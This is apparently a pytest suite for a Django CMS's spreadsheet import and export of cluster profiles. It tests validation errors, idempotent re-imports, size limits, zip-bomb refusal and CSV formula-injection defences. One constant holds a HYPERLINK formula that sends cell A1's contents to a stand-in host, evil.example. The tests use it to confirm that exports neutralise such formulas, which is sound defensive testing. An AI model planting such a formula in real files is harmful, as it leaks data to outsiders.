"""Spreadsheet import of cluster directories: preview, per-row errors, idempotent re-import."""

import csv
import io
import zipfile

import pytest
from django.core.management import call_command
from django.test import override_settings

from cms.clusters.exporting import export_rows, write_csv, write_xlsx
from cms.clusters.importing import apply_import, preview_import
from cms.clusters.models import ClusterProfile
from cms.clusters.reading import read_table
from cms.clusters.spreadsheet import ImportFileError
from cms.core import translation_status as ts

HEADER = (
    "slug,country,sectors,name_en,name_cs,description_en,description_cs,members,founded,website"
)


def csv_file(*lines: str) -> bytes:
    return ("\n".join([HEADER, *lines]) + "\n").encode("utf-8")


def preview(content: bytes, name="clusters.csv", allowed=None):
    return preview_import(read_table(content, name), allowed_countries=allowed)


GOOD = [
    "brno-bio,CZ,food;ict,Brno Bio Cluster,Brněnský bio klastr,Food and software,Jídlo a software,12,2009,https://example.org/brno",
    "plzen-auto,CZ,manufacturing,Pilsen Automotive,Plzeňský automobilový klastr,Cars,Auta,40,2005,",
]


def test_new_rows_are_created_and_reimport_changes_nothing(db):
    content = csv_file(*GOOD)
    first = preview(content)
    assert first.counts() == {"create": 2, "update": 0, "unchanged": 0, "error": 0}
    assert apply_import(first) == {"created": 2, "updated": 0, "unchanged": 0, "skipped": 0}
    brno = ClusterProfile.objects.get(slug="brno-bio")
    assert (brno.name_cs, brno.members, brno.country.code) == ("Brněnský bio klastr", 12, "CZ")
    assert sorted(brno.sectors.values_list("slug", flat=True)) == ["food", "ict"]
    assert brno.ready_languages == ["cs"]  # no ready_languages column: complete means ready
    assert ts.has_language(brno, "cs") and not ts.has_language(brno, "de")
    again = preview(content)
    assert again.counts()["unchanged"] == 2
    before = ClusterProfile.objects.count()
    assert apply_import(again)["unchanged"] == 2
    assert ClusterProfile.objects.count() == before


def test_a_changed_cell_updates_in_place(db):
    apply_import(preview(csv_file(*GOOD)))
    changed = csv_file(GOOD[0].replace(",12,", ",13,"), GOOD[1])
    result = preview(changed)
    assert [row.action for row in result.rows] == ["update", "unchanged"]
    apply_import(result)
    assert ClusterProfile.objects.get(slug="brno-bio").members == 13


@pytest.mark.parametrize(
    ("line", "column"),
    [
        ("x1,CZ,mining,Name,,,,,,", "sectors"),
        ("x2,CZ,food,Name,,,,,,not a url", "website"),
        ("x3,CZ,food,,,,,,,", "name_cs"),  # no name in Czech (the site's main language) or English
        ("x4,XX,food,Name,,,,,,", "country"),
        ("x5,CZ,food,Name,,,,many,,", "members"),
        ("x6,CZ,food,Name,,,,,1066,", "founded"),
        ("x6,CZ,food,Name,,,,,2100,", "founded"),  # in the future: the admin refuses it too
        ("bad slug!,CZ,food,Name,,,,,,", "slug"),
    ],
)
def test_errors_name_the_row_and_column_and_nothing_is_written(db, line, column):
    result = preview(csv_file(GOOD[0], line))
    bad = result.invalid
    assert len(bad) == 1 and bad[0].number == 3
    assert bad[0].errors[0][0] == column
    before = ClusterProfile.objects.count()
    with pytest.raises(ImportFileError, match="nothing was written"):
        apply_import(result)
    assert ClusterProfile.objects.count() == before


def test_a_row_named_only_in_its_sites_main_language_imports(db):
    """As in the edit form: a Czech row needs its Czech name, not an English one."""
    result = preview(csv_file("cz-only,CZ,food,,Klastr sklářů,,,,,"))
    assert result.rows[0].ok, result.rows[0].errors
    apply_import(result)
    cluster = ClusterProfile.objects.get(slug="cz-only")
    assert (cluster.name_cs, cluster.name_en, cluster.ready_languages) == (
        "Klastr sklářů",
        "",
        ["cs"],
    )


@override_settings(TRANSLATIONS_REQUIRED_AT_PUBLICATION=("en",))
def test_the_networks_languages_are_required_when_it_asks_for_them(db):
    """An import publishes: the languages required at publication are required in every row."""
    (row,) = preview(csv_file("cz-only,CZ,food,,Klastr sklářů,,,,,")).rows
    assert [column for column, _message in row.errors] == ["name_en"]


def test_confirmed_import_writes_only_the_valid_rows(db):
    result = preview(csv_file(GOOD[0], "x2,CZ,food,Name,,,,,,not a url"))
    counts = apply_import(result, confirm_skipping_invalid=True)
    assert counts == {"created": 1, "updated": 0, "unchanged": 0, "skipped": 1}
    assert not ClusterProfile.objects.filter(slug="x2").exists()


def test_an_editor_may_not_import_another_countrys_clusters(db):
    slovak = ClusterProfile.objects.filter(country__code="SK").first()
    lines = [GOOD[0], "pl-new,PL,food,Polish,,,,,,", f"{slovak.slug},CZ,food,Hijack,,,,,,"]
    result = preview(csv_file(*lines), allowed={"CZ"})
    errors = {row.number: row.errors[0] for row in result.invalid}
    assert errors[3][0] == "country"
    assert errors[4] == ("slug", "belongs to a cluster of another country")


def test_duplicate_keys_in_one_file_are_reported(db):
    result = preview(csv_file(GOOD[0], GOOD[0]))
    assert result.invalid[0].number == 3
    assert result.invalid[0].errors == [("slug", "also used in row 2")]


def test_slugs_differing_in_case_in_one_file_are_one_cluster_reported(db):
    """``foo`` and ``FOO`` created two clusters, each "unchanged" on the next import."""
    result = preview(csv_file(GOOD[0], GOOD[0].replace("brno-bio", "Brno-Bio", 1)))
    assert result.invalid[0].number == 3
    assert result.invalid[0].errors == [
        ("slug", "differs from “brno-bio” in row 2 only in upper and lower case")
    ]


def test_export_then_import_round_trips_without_changes(db):
    rows = export_rows(ClusterProfile.objects.all())
    assert len(rows) - 1 == ClusterProfile.objects.count()
    for writer, name in ((write_csv, "all.csv"), (write_xlsx, "all.xlsx")):
        result = preview_import(read_table(writer(rows), name))
        assert result.counts()["unchanged"] == ClusterProfile.objects.count(), name


def test_rich_description_survives_an_unchanged_round_trip(db):
    cluster = ClusterProfile.objects.first()
    cluster.description_en = "<p>We <b>grow</b> together.</p>"
    cluster.save()
    rows = export_rows(ClusterProfile.objects.filter(pk=cluster.pk))
    apply_import(preview_import(read_table(write_xlsx(rows), "one.xlsx")))
    cluster.refresh_from_db()
    assert cluster.description_en == "<p>We <b>grow</b> together.</p>"


@pytest.mark.parametrize(
    ("content", "name", "message"),
    [
        (b"slug,country\n", "x.txt", "unsupported file type"),
        (b"slug,country,colour\n", "x.csv", "unknown column"),
        (b"slug,name_en\n", "x.csv", "missing column country"),
        (b"slug,country,city_cs\n", "x.csv", "missing column name_en / name_cs / name_de"),
        (b"\xff\xfe\x00bad", "x.csv", "none of the known encodings"),
        (b"not a zip", "x.xlsx", "not a readable XLSX file. Save it"),
        (b"", "x.csv", "no header"),
    ],
)
def test_unreadable_files_get_a_clear_error(db, content, name, message):
    with pytest.raises(ImportFileError, match=message):
        read_table(content, name)


# --- ready languages ------------------------------------------------------------------


def test_the_benchmark_reimport_changes_nothing(db):
    """``bench_import`` (every language marked ready), small: the re-import writes nothing."""
    out = io.StringIO()
    call_command("bench_import", rows=30, stdout=out)
    assert (
        "re-import: {'created': 0, 'updated': 0, 'unchanged': 30, 'skipped': 0}" in out.getvalue()
    )


# --- formulas in exports, limits on imports ----------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def cluster_with_formulas() -> ClusterProfile:
    cluster = ClusterProfile.objects.filter(country__code="CZ").first()
    cluster.name_en, cluster.city_en, cluster.phone = FORMULA, "@SUM(1)", "+420 475 123 456"
    cluster.region_en = "'=quoted by its editor"
    cluster.save()
    return cluster


def exported_cells(cluster, writer) -> dict:
    """The cluster's row of an export written by ``writer``, read back raw (no import)."""
    from openpyxl import load_workbook

    content = writer(export_rows(ClusterProfile.objects.filter(pk=cluster.pk)))
    if writer is write_csv:
        header, row = csv.reader(io.StringIO(content.decode("utf-8-sig")))
        return dict(zip(header, row, strict=True))
    header, row = load_workbook(io.BytesIO(content)).worksheets[0].iter_rows()
    return {name.value: cell for name, cell in zip(header, row, strict=True)}


def test_the_xlsx_export_writes_formula_text_as_quoted_text(db):
    cells = exported_cells(cluster_with_formulas(), write_xlsx)
    for column in ("name_en", "city_en", "phone", "region_en"):
        assert cells[column].data_type == "s", column  # a string, not "f" (formula)
        assert cells[column].value.startswith("'"), column
    assert cells["name_en"].value == "'" + FORMULA
    assert cells["region_en"].value == "''=quoted by its editor"


def test_the_csv_export_quotes_formula_text(db):
    cells = exported_cells(cluster_with_formulas(), write_csv)
    assert cells["name_en"] == "'" + FORMULA
    assert (cells["city_en"], cells["phone"]) == ("'@SUM(1)", "'+420 475 123 456")
    assert cells["members"] == "" or cells["members"].isdigit()  # numbers are numbers


@pytest.mark.parametrize(("writer", "name"), [(write_csv, "c.csv"), (write_xlsx, "c.xlsx")])
def test_quoted_cells_round_trip_without_changes_or_extra_quotes(db, writer, name):
    cluster = cluster_with_formulas()
    for _round in range(2):  # a quote taken off on import, so no quote piles up
        content = writer(export_rows(ClusterProfile.objects.filter(pk=cluster.pk)))
        result = preview_import(read_table(content, name))
        assert result.counts()["unchanged"] == 1
        apply_import(result)
    cluster.refresh_from_db()
    assert (cluster.name_en, cluster.region_en) == (FORMULA, "'=quoted by its editor")


LINE = "brno-bio,CZ,food,Brno Bio Cluster,Brněnský bio klastr,{description},Jídlo,12,2009,"


@pytest.mark.parametrize("length", [40_000, 200_000])  # over the limit; over csv's own limit
def test_a_huge_cell_is_an_error_naming_row_and_column(db, length):
    content = csv_file(GOOD[1], LINE.format(description="x" * length))
    with pytest.raises(ImportFileError, match="row 3, column description_en: longer than 32767"):
        read_table(content, "huge.csv")


def test_a_huge_cell_in_an_xlsx_is_an_error_naming_row_and_column(db):
    """openpyxl cuts what it writes at Excel's limit, so the long cell is put in by hand."""
    table = [HEADER.split(","), LINE.format(description="PLACEHOLDER").split(",")]
    packed, unpacked = io.BytesIO(write_xlsx(table)), io.BytesIO()
    with zipfile.ZipFile(packed) as source, zipfile.ZipFile(unpacked, "w") as target:
        for part in source.infolist():
            data = source.read(part).replace(b"PLACEHOLDER", b"x" * 40_000)
            target.writestr(part, data)
    with pytest.raises(ImportFileError, match="row 2, column description_en: longer than"):
        read_table(unpacked.getvalue(), "huge.xlsx")


def test_a_nul_byte_is_an_error_naming_row_and_column(db):
    content = csv_file(GOOD[1], LINE.format(description="Food").replace("Jídlo", "Jí\x00dlo"))
    with pytest.raises(ImportFileError, match="nul.csv: row 3, column description_cs: .*NUL"):
        read_table(content, "nul.csv")


class CountingStream:
    """A file that makes its rows up as it is read and counts the bytes it gave out."""

    def __init__(self, rows: int, row: str = "c{},CZ,food,Cluster {},,,,,,\n"):
        self.lines = (row.format(n, n).encode() for n in range(rows))
        self.pending, self.served = (HEADER + "\n").encode(), 0

    def read(self, size: int = -1) -> bytes:
        while len(self.pending) < size and (line := next(self.lines, None)):
            self.pending += line
        chunk, self.pending = self.pending[:size], self.pending[size:]
        self.served += len(chunk)
        return chunk


def test_reading_stops_at_the_first_row_past_the_limit(db):
    from cms.clusters.spreadsheet import MAX_ROWS

    stream = CountingStream(rows=MAX_ROWS * 10)
    with pytest.raises(ImportFileError, match=f"more than {MAX_ROWS} rows"):
        read_table(stream, "many.csv")
    row_bytes = len("c00000,CZ,food,Cluster 00000,,,,,,\n")
    assert stream.served < (MAX_ROWS + 1) * row_bytes + 64 * 1024  # not the 10× larger rest


def test_a_stream_without_a_size_stops_at_the_byte_limit(db):
    from cms.clusters.spreadsheet import MAX_BYTES

    row = "c{},CZ,food,Cluster {},,," + "d" * 1000 + ",,,\n"  # 1 KB rows: bytes run out first
    stream = CountingStream(rows=MAX_BYTES // 500, row=row)
    with pytest.raises(ImportFileError, match="larger than 10 MB"):
        read_table(stream, "long.csv")
    assert stream.served <= MAX_BYTES + 64 * 1024


class Unreadable(io.RawIOBase):
    """A file that claims its size and must not be read."""

    size = 10 * 1024 * 1024 + 1

    def read(self, size=-1):
        raise AssertionError("a file over the limit was read")


@pytest.mark.parametrize("name", ["big.csv", "big.xlsx"])
def test_a_file_over_the_byte_limit_is_refused_by_its_size_unread(db, name):
    with pytest.raises(ImportFileError, match="larger than 10 MB"):
        read_table(Unreadable(), name)


def test_an_xlsx_that_unpacks_too_large_is_refused(db, monkeypatch):
    from cms.clusters import reading

    content = write_xlsx(export_rows(ClusterProfile.objects.all()))
    monkeypatch.setattr(reading, "MAX_XLSX_EXPANDED", len(content))  # a zip packs it smaller
    with pytest.raises(ImportFileError, match="unpacks to more than"):
        read_table(content, "bomb.xlsx")


def test_the_command_exits_with_the_row_and_column_of_a_bad_cell(db, tmp_path):
    from django.core.management.base import CommandError

    path = tmp_path / "nul.csv"
    path.write_bytes(csv_file(LINE.format(description="Fo\x00od")))
    with pytest.raises(CommandError, match="nul.csv: row 2, column description_en"):
        call_command("import_clusters", str(path), stdout=io.StringIO())
    big = tmp_path / "big.csv"
    big.write_bytes(csv_file(*GOOD) + b" " * (10 * 1024 * 1024))
    with pytest.raises(CommandError, match="larger than 10 MB"):
        call_command("import_clusters", str(big), stdout=io.StringIO())


def test_a_control_character_an_xlsx_cannot_hold_is_an_error_naming_row_and_column(db):
    content = csv_file(LINE.format(description="Food").replace("Jídlo", "Jí\x0bdlo"))
    with pytest.raises(ImportFileError, match="row 2, column description_cs: .*U\\+000B"):
        read_table(content, "vt.csv")


def test_the_xlsx_export_leaves_out_control_characters_instead_of_failing(db):
    cluster = ClusterProfile.objects.filter(country__code="CZ").first()
    cluster.name_en = "Brno\x0b Bio"  # typed in the admin, which lets it through
    cluster.save()
    assert exported_cells(cluster, write_xlsx)["name_en"].value == "Brno Bio"


def test_the_export_command_writes_no_live_formula(db, tmp_path):
    cluster = cluster_with_formulas()
    call_command("export_clusters", str(tmp_path / "out.csv"), country=["CZ"], stdout=io.StringIO())
    rows = list(csv.DictReader(io.StringIO((tmp_path / "out.csv").read_text("utf-8-sig"))))
    (row,) = [row for row in rows if row["slug"] == cluster.slug]
    assert (row["name_en"], row["phone"]) == ("'" + FORMULA, "'+420 475 123 456")


@pytest.mark.parametrize(
    ("cell", "exported_at"),
    [
        ("2026-01-31T12:00:00Z", "2026-01-31 12:00:00+00:00"),  # as exported
        ("2026-01-31 13:00:00+01:00", "2026-01-31 12:00:00+00:00"),
        ("2026-01-31 12:00", "2026-01-31 12:00:00+00:00"),  # a spreadsheet's re-save: UTC
    ],
)
def test_the_updated_at_column_is_read_not_written(db, cell, exported_at):
    rows = [{"slug": "x", "country": "CZ", "name_en": "X", "updated_at": cell}]
    (row,) = preview_import(rows).rows
    assert row.ok and str(row.exported_at) == exported_at
    assert "updated_at" not in row.values


def test_an_unreadable_updated_at_is_an_error_naming_the_column(db):
    rows = [{"slug": "x", "country": "CZ", "name_en": "X", "updated_at": "31.01.2026 12:00"}]
    (row,) = preview_import(rows).rows
    assert row.errors == [
        (
            "updated_at",
            "“31.01.2026 12:00” is not a time as the export writes it (2026-01-31T12:00:00Z); "
            "leave the column as exported, or delete it",
        )
    ]


# --- a file with some columns: the others are left alone --------------------------------


def full_slovak_cluster() -> ClusterProfile:
    """A Slovak cluster with every column filled, ready in Slovak."""
    from cms.core.models import Sector

    cluster = ClusterProfile.objects.filter(country__code="SK").first()
    cluster.name_en, cluster.name_sk = "Kosice IT", "Košický IT klaster"
    cluster.region_en, cluster.region_sk = "Kosice Region", "Košický kraj"
    cluster.city_en, cluster.city_sk = "Kosice", "Košice"
    cluster.description_en = "<p>We <b>grow</b> together.</p>"
    cluster.description_sk = "<p>Rastieme spolu.</p>"
    cluster.members, cluster.founded = 42, 2007
    cluster.website, cluster.email = "https://kosice.example", "info@kosice.example"
    cluster.phone, cluster.ready_languages = "+421 55 123 456", ["sk"]
    cluster.save()
    cluster.sectors.set(Sector.objects.filter(slug__in=["ict", "manufacturing"]))
    return cluster


def snapshot(cluster: ClusterProfile) -> dict:
    cluster = ClusterProfile.objects.get(pk=cluster.pk)
    fields = [f.attname for f in ClusterProfile._meta.concrete_fields if f.attname != "updated_at"]
    values = {name: getattr(cluster, name) for name in fields}
    values["sectors"] = sorted(cluster.sectors.values_list("slug", flat=True))
    return values


def test_a_file_of_some_columns_changes_those_and_leaves_the_others(db, tmp_path):
    """The reviewer's case: ``slug,country,name_en`` blanked every other column of the
    cluster (names, places, descriptions, numbers, contacts, sectors) and unpublished its
    Slovak version. The command now lists the one change, and writes only that."""
    cluster = full_slovak_cluster()
    before = snapshot(cluster)
    path = tmp_path / "partial.csv"
    path.write_text(f"slug,country,name_en\n{cluster.slug},SK,Kosice IT Cluster\n")
    out = io.StringIO()
    call_command("import_clusters", str(path), stdout=out)
    assert "0 to create, 1 to update, 0 unchanged, 0 with errors." in out.getvalue()
    assert f"partial.csv: row 2, {cluster.slug}: update" in out.getvalue()
    assert "  name_en: 'Kosice IT' → 'Kosice IT Cluster'" in out.getvalue()
    assert out.getvalue().count(" → ") == 1  # nothing else would change
    call_command("import_clusters", str(path), "--commit", stdout=io.StringIO())
    renamed = {"name_en": "Kosice IT Cluster", "name": "Kosice IT Cluster"}  # name: name_en
    assert snapshot(cluster) == {**before, **renamed}
    assert ts.has_language(ClusterProfile.objects.get(pk=cluster.pk), "sk")
    again = io.StringIO()
    call_command("import_clusters", str(path), stdout=again)
    assert "0 to update, 1 unchanged" in again.getvalue()


def test_a_file_without_the_ready_column_publishes_only_the_languages_it_has(db):
    """No ``ready_languages`` column: a language whose name the file fills is ready, one
    whose name column it lacks keeps its stored state (held back here), one it empties
    is not ready."""
    cluster = full_slovak_cluster()
    cluster.name_de, cluster.name_cs, cluster.ready_languages = "Kaschau IT", "Košice IT", ["sk"]
    cluster.save()
    rows = [{"slug": cluster.slug, "country": "SK", "name_sk": "", "name_pl": "Koszyce IT"}]
    (row,) = preview_import(rows).rows
    assert row.ok, row.errors
    assert row.values["ready_languages"] == ["pl"]  # de and cs stay held back, sk emptied
    apply_import(preview_import(rows))
    cluster.refresh_from_db()
    assert (cluster.ready_languages, cluster.name_de) == (["pl"], "Kaschau IT")


def test_a_row_shorter_than_the_header_is_an_error_naming_the_missing_columns(db):
    cluster = full_slovak_cluster()
    before = snapshot(cluster)
    header = "slug,country,sectors,name_en,name_sk,members,website"
    content = f"{header}\n{cluster.slug},SK,ict,Kosice IT,Košický IT klaster\n".encode()
    result = preview(content)
    (bad,) = result.invalid
    assert bad.number == 2 and bad.errors[0][0] == "members, website"
    assert "the row ends before these columns" in bad.errors[0][1]
    with pytest.raises(ImportFileError, match="nothing was written"):
        apply_import(result)
    assert snapshot(cluster) == before


def test_an_xlsx_row_that_stops_at_its_last_filled_cell_has_empty_cells_after_it(db):
    from cms.clusters.reading import table_of

    rows = iter([["slug", "country", "name_en", "website"], ["x", "CZ", "X"]])
    table = table_of(rows, "list.xlsx", fill=True)
    assert table == [{"slug": "x", "country": "CZ", "name_en": "X", "website": ""}]
    assert table.columns == ["slug", "country", "name_en", "website"]


# --- column lengths, repeated columns -----------------------------------------------------


@pytest.mark.parametrize(
    ("column", "value", "limit"),
    [
        ("slug", "s" * 101, 100),
        ("website", "https://example.org/" + "p" * 300, 200),
        ("email", "a" * 250 + "@example.org", 254),
        ("phone", "+420 " + "1" * 60, 50),
        ("city_cs", "C" * 151, 150),
    ],
)
def test_a_cell_longer_than_its_field_is_an_error_not_cut(db, column, value, limit):
    row = {"slug": "long", "country": "CZ", "name_en": "Long", column: value}
    (result,) = preview_import([row]).rows
    assert (column, f"longer than {limit} characters") in result.errors
    with pytest.raises(ImportFileError, match="nothing was written"):
        apply_import(preview_import([row]))


def test_a_repeated_column_is_refused_naming_file_and_column(db):
    content = (HEADER + ",name_en\n" + GOOD[0] + ",Another name\n").encode()
    with pytest.raises(ImportFileError, match="^twice.csv: column name_en appears more than once"):
        read_table(content, "twice.csv")
    with pytest.raises(ImportFileError, match="columns name_cs, name_en appear more than once"):
        read_table(b"slug,country,name_en,NAME_CS,name_cs,name_en\n", "twice.csv")
